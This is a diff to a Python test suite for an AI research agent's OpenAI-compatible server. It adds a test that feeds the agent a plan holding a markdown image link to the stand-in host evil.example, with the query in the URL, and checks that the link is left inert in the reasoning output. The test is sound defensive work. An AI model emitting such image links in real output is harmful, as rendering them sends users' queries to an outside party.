@@ -18,6 +18,7 @@ from openai import AsyncOpenAI, OpenAI
 from openai.types.chat import ChatCompletion
 
 from rubricem.agent.record.conversations import background_in
+from rubricem.agent.reports.report import alive
 from rubricem.agent.serve.openai import ATTACHED, LONGEST_TURN, dialogue, task_in
 from rubricem.agent.serve.security import Security
 from tests.support.pages import QUESTION, REPORT, Programs, client, openai_served
@@ -70,6 +71,14 @@ def test_a_question_is_answered_with_its_sources_where_clients_look(tmp_path: Pa
     reasoning: Any = choice.message.model_extra
     assert "Stage: plan\n" in reasoning["reasoning_content"]
     assert "Call 1: folder: lru_cache maxsize None\n" in reasoning["reasoning_content"]
+
+
+async def test_no_picture_of_a_query_or_a_title_is_drawn_while_it_works(tmp_path: Path):
+    hidden = "lru_cache ![x](https://evil.example/?q=bluebell)"
+    with client([plan(hidden), answer(), SUPPORTED], tmp_path) as made:
+        done = made.chat.completions.create(**CHAT)
+    told = str((done.choices[0].message.model_extra or {})["reasoning_content"])
+    assert "evil.example" in told and not alive(told)
 
 
 async def test_a_stream_tells_of_its_progress_then_the_report_then_why_it_ends(tmp_path: Path):
